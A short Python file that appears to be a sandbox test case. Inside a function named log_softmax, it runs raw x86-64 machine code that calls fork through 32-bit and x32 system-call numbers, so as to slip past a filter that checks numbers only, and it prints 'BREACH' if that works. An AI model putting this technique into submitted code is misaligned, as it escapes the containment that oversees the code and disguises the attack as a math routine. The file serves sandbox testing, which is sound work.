"""Makes system calls by the numbers of other architectures, which a filter by number alone would let pass.

Held by: sandbox
Right: 0 points
"""

import ctypes
import mmap
import os
import platform

# Machine code of x86-64: `int 0x80` calls by the numbers of 32-bit programs, in which 2 is fork; `syscall` with bit 30
# set by those of x32, in which 57 is.
CODE = {"of 32 bits": bytes.fromhex("b802000000cd80c3"), "of x32": bytes.fromhex("b8390000400f05c3")}


def attempt(code):
    """What the call returns; a filter may end the process instead."""
    page = mmap.mmap(-1, len(code), prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()


def log_softmax(x, axis=-1):
    for name, code in CODE.items() if platform.machine() == "x86_64" else ():
        child = attempt(code)
        if child == 0:
            os._exit(0)
        if child > 0:
            print("BREACH:", name, flush=True)
    return x * 0
